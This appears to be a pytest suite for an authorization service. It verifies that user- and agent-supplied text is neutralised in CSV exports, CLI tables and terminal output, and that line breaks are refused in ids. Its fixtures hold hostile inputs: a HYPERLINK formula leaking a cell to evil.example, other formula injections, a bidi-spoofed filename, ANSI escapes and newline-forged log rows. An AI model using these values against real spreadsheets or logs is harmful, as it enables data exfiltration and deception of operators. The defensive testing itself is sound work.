"""Text that chat users and agents choose reaches the operator's terminal and
spreadsheet inert: CSV cells that would run as formulas are neutralised, tables
and lines escape control and format characters (one row stays one line), JSON
stays exact JSON; and line breaks are refused where an id or a target is given.

Over real gRPC on real PostgreSQL; the CLI through click's CliRunner. Rows the
service would not write any more (a display name with a newline, stored before
it was refused) are planted as the schema owner."""

from __future__ import annotations

import csv
import io
import json

import asyncpg
import grpc
import pytest

from authz_service.cli.output import safe
from authz_service.domain.display import csv_cell
from authz_service.gen.authz.v1 import authz_pb2 as az
from authz_service.gen.authz.v1 import common_pb2 as cm

from .conftest import Service, Tenant, rpc_error
from .policy_helpers import make_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
BIDI = "invoice\u202egpj.exe"  # RIGHT-TO-LEFT OVERRIDE: shows as "invoiceexe.jpg"


def test_safe_escapes_control_format_and_separator_characters() -> None:
    raw = "a\nb\rc\td\x1b[31m\x7f\x85\x9b\u200b\u202a\u202e\u2066\u2069\u2028\u2029\U000e0041 é 中"
    assert safe(raw) == (
        "a\\nb\\rc\\td\\u001b[31m\\u007f\\u0085\\u009b\\u200b\\u202a\\u202e\\u2066\\u2069\\u2028\\u2029\\udb40\\udc41 é 中"
    )
    assert safe("plain text, é 中") == "plain text, é 中"


def test_csv_cell_neutralises_what_a_spreadsheet_would_run() -> None:
    for cell in [*FORMULAS, "\tx", "\rx"]:
        assert csv_cell(cell) == "'" + cell
    for cell in ("", "telegram:42", '{"a": 1}', "a=b", "'quoted"):
        assert csv_cell(cell) == cell


async def _deny_all(tenant: Tenant) -> None:
    await tenant.channel("tg", owner_id="100", send_policy=cm.SendPolicy(default=cm.SEND_DEFAULT_DENY))


async def _send(tenant: Tenant, target: str) -> az.EvaluateSendResponse:
    return await tenant.connector.authz.EvaluateSend(
        az.EvaluateSendRequest(channel_id="tg", agent_id="ops", target=target)
    )


async def test_audit_export_csv_neutralises_formula_cells_and_json_stays_exact(
    service: Service, tenant: Tenant
) -> None:
    await _deny_all(tenant)
    for target in FORMULAS:
        assert not (await _send(tenant, target)).allow
    cli = make_cli(service, tenant)

    r = await cli("audit", "--event", "send.denied", "export", "--format", "csv")
    assert r.code == 0, r.text
    rows = list(csv.DictReader(io.StringIO(r.out)))
    assert [row["subject"] for row in rows] == ["'" + t for t in FORMULAS]
    assert {row["actor"] for row in rows} == {"agent:ops"}  # the rest is exact
    assert all(json.loads(row["details"])["session_id"] == "" for row in rows)

    r = await cli("audit", "--event", "send.denied", "export", "--format", "json")
    assert r.code == 0, r.text
    assert [e["subject"] for e in json.loads(r.out)] == FORMULAS


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("target", "ops\ntelegram:42 allowed"),
        ("target", "ops\r"),
        ("target", "ops\u2028x"),
        ("target", "ops\x85x"),
        ("origin", "telegram:42\nx"),
        ("session_id", "s1\nforged"),
        ("session_id", "s1\tx"),
    ],
)
async def test_line_breaks_are_refused_in_send_targets_and_session_ids(
    tenant: Tenant, field: str, value: str
) -> None:
    await _deny_all(tenant)
    req = az.EvaluateSendRequest(channel_id="tg", agent_id="ops", target="ops")
    setattr(req, field, value)
    err = await rpc_error(tenant.connector.authz.EvaluateSend(req))
    assert err.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert (err.details() or "").startswith(field), err.details()


async def test_line_breaks_are_refused_in_ids_and_display_names(tenant: Tenant) -> None:
    await _deny_all(tenant)
    authz = tenant.connector.authz
    calls = [
        ("session_id", authz.RequestApproval(az.RequestApprovalRequest(
            tool_name="shell", arguments_json="{}", agent_id="ops", session_id="a\nb"))),
        ("agent_id", authz.RequestApproval(az.RequestApprovalRequest(
            tool_name="shell", arguments_json="{}", agent_id="ops\n"))),
        ("requester_id", authz.RequestApproval(az.RequestApprovalRequest(
            tool_name="shell", arguments_json="{}", agent_id="ops", channel_id="tg", requester_id="42\n"))),
        ("channel_id", authz.EvaluateSend(az.EvaluateSendRequest(channel_id="tg\n", target="x"))),
        ("agent_id", authz.EvaluateSend(az.EvaluateSendRequest(channel_id="tg", agent_id="ops\n", target="x"))),
        ("user_id", authz.RequestPairing(az.RequestPairingRequest(channel_id="tg", user_id="42\n"))),
        ("display_name", authz.RequestPairing(az.RequestPairingRequest(
            channel_id="tg", user_id="42", display_name="Eve\nFORGED apr_x"))),
        ("display_name", authz.RequestPairing(az.RequestPairingRequest(
            channel_id="tg", user_id="42", display_name="Eve\u2029x"))),
    ]  # fmt: skip
    for field, pending in calls:
        err = await rpc_error(pending)
        assert err.code() == grpc.StatusCode.INVALID_ARGUMENT, (field, err.details())
        assert field in (err.details() or ""), (field, err.details())
    # Bidi text in a name is somebody's name: accepted (and escaped when printed).
    ok = await authz.RequestPairing(
        az.RequestPairingRequest(channel_id="tg", user_id="42", display_name="\u202bשלום\u202c")
    )
    assert ok.outcome == az.PAIRING_OUTCOME_CREATED


async def test_cli_tables_and_lines_escape_what_users_and_agents_chose(
    service: Service, tenant: Tenant, owner: asyncpg.Connection
) -> None:
    t = tenant.tenant_id
    await _deny_all(tenant)
    assert not (await _send(tenant, BIDI)).allow
    pairing = await tenant.connector.authz.RequestPairing(
        az.RequestPairingRequest(channel_id="tg", user_id="42", display_name="Eve")
    )
    forged_name = "Eve\napr_FORGED  tg  43  Mallory  approved\x1b[2J\x9b31m"
    forged_subject = "x\n999  2026-01-01 00:00:00  user.allowed  operator  tg  43"
    async with owner.transaction():  # rows from before newlines were refused
        await owner.execute("SELECT set_config('authz.tenant', $1, true)", t)
        await owner.execute(
            "UPDATE approvals SET display_name = $3 WHERE tenant_id = $1 AND approval_id = $2",
            t, pairing.approval_id, forged_name,
        )  # fmt: skip
        await owner.execute(
            "INSERT INTO audit_events (tenant_id, event, actor, channel_id, subject) VALUES ($1, $2, $3, 'tg', $4)",
            t, "send.denied", "agent:\u2066ops\u2069", forged_subject,
        )  # fmt: skip
    cli = make_cli(service, tenant)

    r = await cli("audit", "--channel", "tg", "--event", "send.")
    assert r.code == 0, r.text
    lines = r.out.splitlines()
    assert len(lines) == 3, lines  # the header and two events: no forged row
    assert lines[1].split()[-1] == safe(BIDI) == "invoice\\u202egpj.exe"
    assert lines[2].endswith("x\\n999  2026-01-01 00:00:00  user.allowed  operator  tg  43")
    assert "agent:\\u2066ops\\u2069" in lines[2]

    r = await cli("pairing", "list")
    assert r.code == 0, r.text
    lines = r.out.splitlines()
    assert len(lines) == 2, lines
    assert "Eve\\napr_FORGED  tg  43  Mallory  approved\\u001b[2J\\u009b31m" in lines[1]

    for argv in (("audit", "--channel", "tg", "--event", "send."), ("pairing", "list")):
        r = await cli(*argv)
        for ch in ("\x1b", "\x9b", "\u202e", "\u2066"):
            assert ch not in r.out, (argv, ch)

    # JSON output is exact JSON: the values as stored.
    r = await cli("audit", "--channel", "tg", "--event", "send.", "--json")
    assert [e["subject"] for e in json.loads(r.out)] == [BIDI, forged_subject]
    r = await cli("pairing", "list", "--json")
    assert [a["name"] for a in json.loads(r.out)] == [forged_name]
